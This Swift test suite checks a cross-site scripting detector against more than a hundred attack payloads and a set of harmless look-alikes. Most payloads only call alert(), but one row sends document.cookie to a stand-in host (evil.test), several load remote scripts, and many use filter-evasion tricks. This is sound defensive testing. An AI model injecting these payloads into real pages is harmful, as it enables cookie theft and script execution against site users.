import MirrorGuardCore
import Testing
@testable import Detection

let xssAttackRows: [Row] = [
    // a quote inside a comment must not hide the live tag after it; `<?…>` ends at the first `>`
    "<!-- '=\"foo\"><x foo='--><img src=x onerror=alert(2)//'>", "<?x><img src=x onerror=alert(1)>",
    // script-capable elements
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.test/x.js></SCRIPT>", "<script/src=data:,alert(1)>", "<sCrIpT>confirm`1`</sCrIpT>",
    "\"><script>fetch('//evil.test?c='+document.cookie)</script>", "<iframe src=javascript:alert(1)>", "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=\"data:text/html,<script>alert(1)</script>\">", "<embed src=//evil.test/x.swf>", "<base href=//evil.test/>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">", "<frameset onload=alert(1)>", "<applet code=x>",
    "<link rel=import href=//evil.test/x.html>", "<style>body{background:url(javascript:alert(1))}</style>", "<style>@import 'http://evil.test/x.css';</style>",
    "</script><script>alert(1)</script>", "</ScRiPt ><img src=x onerror=alert(1)>",
    // event handlers
    "<img src=x onerror=alert(1)>", "<IMG SRC=\"x\" ONERROR=\"alert(document.domain)\">", "<svg onload=alert(1)>", "<svg/onload=alert`1`>",
    "<body onload=alert('xss')>", "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>",
    "<marquee onstart=alert(1)>", "<div onmouseover=\"alert(1)\">hover</div>", "<a onclick=alert(1)>x</a>", "<x onpointerenter=alert(1)>",
    "<img src=x onerror\n=alert(1)>", "<img\tsrc=x\tonerror=alert(1)>", "<img src=1 onerror='eval(atob(\"YWxlcnQoMSk=\"))'>",
    "<select onchange=alert(1)><option>1</select>", "<textarea onkeyup=alert(1)>", "<audio src=x onerror=prompt(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><set attributeName=\"onmouseover\" to=\"alert(1)\"/>",
    "<form><button formaction=javascript:alert(1)>go</button></form>", "<body onpageshow=alert(1)>", "<keygen autofocus onfocus=alert(1)>",
    // URLs
    "<a href=\"javascript:alert(1)\">x</a>", "<a href=\"JaVaScRiPt:alert(1)\">x</a>", "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"&#x6A;&#x61;vascript&colon;alert(1)\">x</a>", "<a href=\"java\tscript:alert(1)\">x</a>", "<a href=\" javascript:alert(1)\">",
    "<a href=\"vbscript:msgbox(1)\">x</a>", "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<img src=\"javascript:alert(1)\">", "<form action=\"javascript:alert(1)\"><input type=submit>", "<math><a xlink:href=\"javascript:alert(1)\">x</a></math>",
    "javascript:alert(1)", "javascript:alert(document.cookie)", " JAVASCRIPT:alert(1)", "javascript://%0aalert(1)", "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(\"x\")", "/redirect?next=javascript:alert(1)", "\\x01javascript:alert(1)",
    // attribute breakouts
    "\" onmouseover=\"alert(1)", "' onfocus='alert(1)' autofocus='", "\" autofocus onfocus=alert(1) x=\"", "x\" onerror=\"alert(1)",
    "\"><img src=x onerror=alert(1)>", "'><svg onload=alert(1)>", "\"/><script>alert(1)</script>", "\" style=\"width:expression(alert(1))",
    "x onmouseover=alert(1)", "foo onfocus=alert(1) autofocus", "\"onmouseover=alert(1)//", "`><img src=x onerror=alert(1)>",
    // JS string breakouts
    "';alert(1)//", "\";alert(1)//", "'-alert(1)-'", "\"+alert(1)+\"", "');alert(1);//", "\";confirm(document.domain);//",
    "'; top['ale'+'rt'](1);//", "\\';alert(String.fromCharCode(88,83,83))//", "'};alert(1);//", "'|alert(1)|'",
    // CSS
    "<div style=\"width: expression(alert(1))\">", "<div style=\"x:ex/**/pression(alert(1))\">", "<div style=\"behavior: url(x.htc)\">",
    "<div style=\"-moz-binding:url(//evil.test/x.xml#x)\">", "width:expression(alert(1))", "<div style=\"background:url('javascript:alert(1)')\">",
    // templates, encodings, misc
    "{{constructor.constructor('alert(1)')()}}", "{{$on.constructor('alert(1)')()}}", "{{ $eval('alert(1)') }}", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<svg><script>alert(1)</script></svg>", "<math><mtext><script>alert(1)</script>", "<!--<script>alert(1)</script>-->", "<xml id=x><x><c><![CDATA[<img src=x>]]></c></x></xml>",
    "<span datasrc=#x datafld=c dataformatas=html></span>", "<img src=&{alert(1)};>", "<meta charset=\"utf-7\">", "onmouseover=alert(1)", "onload=document.cookie=1",
    "<a href=\"x\" target=\"_blank\" onclick=\"alert(1)\">link</a>",
    // script without quotes: dialogs called, handed over or reached through a hidden global name
    "alert(1)", "alert(document.domain)", "prompt`x`", "(confirm)(1)", "[2].map(alert)", "q=alert,q(1)", "window['al'+'ert'](1)",
    "self[/pro/.source+/mpt/.source](1)", "\\u0061lert(1)", "top['\\x61lert'](2)", "x;alert(1)//", "}confirm(1);{",
    // encodings of `<` sent alone to see which come back decoded
    "&#60;", "&#x3c", "&LT", "\\u003c", "&#0060;",
    // CSS that breaks out of its declaration or loads a resource
    "<p style=\"color:red}body{x:y\">", "<b style=\"[x]color:red\">", "<i style=\"background:url(a.svg#b)\">x</i>",
    "<style>p{color:re/**/d}</style>", "<style>@font-face{src:url(f.svg#x)}</style>", "<span style=\"\\63olor:red\">",
    "<link rel=\"stylesheet\" href=\"//evil.test/x.css\">", "<meta http-equiv=\"Link\" content=\"<//evil.test/x.css>; rel=stylesheet\">",
    // links to hosts spelled to hide them; XML processing instructions and XML Events
    "<a href=\"http://3232235777/\">x</a>", "<a href=\"http://0x7f.1/\">x</a>", "<a href=\"ht\ttp://example.com/\">x</a>",
    "<?xml-stylesheet href=\"#x\"?>", "<?import namespace=\"y\" implementation=\"#default#z\">", "<x ev:event=\"load\" ev:handler=\"#h\"/>",
    "<listener event=\"load\" handler=\"#y\"/>", "<xsl:template match=\"/\">",
].map(Row.init)

let xssBenignRows: [Row] = [
    "<!-- a comment --> then text", "<?xml version=\"1.0\"?><note>hi</note>", "<!-- <b>old</b> --><p>new</p>",
    "a<b and c>d", "x < y", "<3", "I <3 you", "1 < 2 > 0", "if (a < b) { return c > d; }", "The <b> tag makes text bold",
    "Use <em>emphasis</em> sparingly", "<p>Hello <strong>world</strong></p>", "<a href=\"https://example.com\">link</a>",
    "<img src=\"/img/logo.png\" alt=\"logo\">", "<ul><li>one</li><li>two</li></ul>", "<br>", "<h2>Title</h2>", "<table><tr><td>1</td></tr></table>",
    "<blockquote>quote</blockquote>", "<code>x &lt; y</code>", "<span class=\"x\">y</span>", "<div id=\"main\">content</div>",
    "<a href=\"/path?x=1&amp;y=2\">x</a>", "<img src=x>", "<input type=\"text\" name=\"q\">", "<label for=\"x\">Name</label>",
    "I wrote a script to alert people", "javascript is fun", "JavaScript: The Good Parts", "javascript: the good parts",
    "Learn JavaScript (2024)", "onboarding=true", "online=yes", "one two", "on=1", "turn on = yes", "only=1",
    "const onResize = (w, h) => {", "const ONCLOSE = Symbol('onclose')", "element.onclick = handler;",
    "path = \"/\".join(parts[1:])", "return ':'.join(octets)", "print('*debug*', self.format(msg))",
    "size, = struct.unpack(\"<I\", data[:4])", "raise TypeError(\"%s() takes %s arguments\" % (name, n))",
    "return \"<Widget({!r})>\".format(self.name)", "} else if (cache[key] && fresh) {", "}).catch(er => {",
    "} catch (_) {", ") AS owner (id, name)", "x = {'a': 1}", "{{ user.name }}", "{{ 7 * 7 }}", "Hello {{name}}!",
    "{% if x %}y{% endif %}", "${price}", "$(document).ready()", "alert (see log)", "confirm your email", "prompt me",
    "window[callbackName](data)", "create alert(s) for errors", "alert('Saved!');", "confirm(\"Delete this item?\")",
    "<p><iframe></iframe></p>", "<iframe src=\"https://www.youtube.com/embed/abc\" allowfullscreen></iframe>", "Please confirm (yes/no)", "Set an alert (optional)", "promptly(3)",
    "<span style=\"font-family: Arial, sans-serif; color: #333\">x</span>", "<div style=\"background:url(https://cdn.example.com/a.png)\">",
    "<style>p { color: red; } /* note */</style>", "<style>input[type=text] { border: 0 }</style>",
    "<style>@media (max-width:600px) { input[type=text] { width: 100%; } }</style>", "<style>a { color: #06c; /* link */ }</style>",
    "<style>blockquote:before { content: \"\\201C\"; }</style>", "<p style=\"font-family: 'Open Sans', Arial, sans-serif\">Hi</p>",
    "<style>@font-face { font-family: R; src: url(https://fonts.gstatic.com/r.woff2) format('woff2'); }</style>", "<a href=\"http://192.168.1.10/admin\">router</a>",
    "&#169; 2024", "&lt;b&gt; is bold", "\\u00e9t\\u00e9", "alert level: high", "<link rel=\"stylesheet\" href=\"/css/site.css\">",
    "https://example.com/?next=/home", "/redirect?next=https://example.com/", "mailto:bob@example.com", "tel:+331234",
    "data:image/png;base64,iVBORw0KGgo=", "http://example.com/a.js", "ftp://files.example.com", "urn:isbn:0451450523",
    "expression of interest", "regular expression(s) are hard", "The expression (x+1) is odd", "color: red; width: 10px",
    "font-family: 'Arial', sans-serif", "background: url(/img/bg.png)", "behaviour is good", "the binding contract",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;", "AT&T", "Q&A", "Tom & Jerry", "100% < 200%",
    "He said \"hi\" and left", "It's a 'quoted' word", "She said: 'no'", "\"Hello\", said Bob (again)", "x' y", "a \"b\" c",
    "5' - 10'", "6' 2\" tall", "O'Brien; call(me)", "Rock 'n' roll", "don't; it(s) fine", "it's - fun(ny)",
    "<meta http-equiv=\"Content-Type\" content=\"text/html; charset=utf-8\">", "<meta charset=\"utf-8\">", "<link rel=\"stylesheet\" href=\"a.css\">",
    "<!-- a comment -->", "<!DOCTYPE html>", "<?xml version=\"1.0\"?>", "<svg width=\"10\" height=\"10\"></svg>", "<math><mi>x</mi></math>",
    "Check <this> out", "<not a tag", "email <bob@example.com>", "List<String> items", "Map<K, V>", "a -> b", "x => x * 2",
    "SELECT * FROM t WHERE a < 5", "1 + 1 = 2", "<<EOF", "<<< conflict", ">>> prompt", "--> arrow", "<- back",
].map(Row.init)

@Suite("Cross-site scripting")
struct CrossSiteScriptingTests {
    let detector = CrossSiteScriptingDetector()

    @Test("attack rows are detected", arguments: xssAttackRows)
    func attacks(_ row: Row) {
        let found = hits(detector, row.value)
        #expect(found.count == 1, "not detected: \(row.value)")
        if let hit = found.first {
            #expect(hit.type == .xss)
            #expect(!hit.fragment.isEmpty)
            #expect(hit.reason.contains("runs script") || hit.reason.contains("is injected"))
            #expect(hit.reason.contains(" context"))
        }
    }

    @Test("benign look-alikes are not", arguments: xssBenignRows)
    func benign(_ row: Row) {
        #expect(hits(detector, row.value).isEmpty, "false positive: \(row.value)")
    }

    @Test("entity-decoded values cannot create markup, but script URLs still count")
    func decodedEntities() {
        #expect(hits(detector, "<script>alert(1)</script>", decoders: [.html]).isEmpty)
        #expect(hits(detector, "javascript:alert(1)", decoders: [.html]).count == 1)
    }

    @Test("contexts are named")
    func contexts() throws {
        #expect(try #require(hits(detector, "<svg onload=alert(1)>").first).context == "html-data")
        #expect(try #require(hits(detector, "\" onmouseover=\"alert(1)").first).context == "attribute-double-quote")
        #expect(try #require(hits(detector, "';alert(1)//").first).context == "js-single-quote")
        #expect(try #require(hits(detector, "javascript:alert(1)").first).context == "url")
    }

    @Test("the tables are large enough to mean something")
    func tableSizes() {
        #expect(xssAttackRows.count >= 100)
        #expect(xssBenignRows.count >= 100)
    }
}
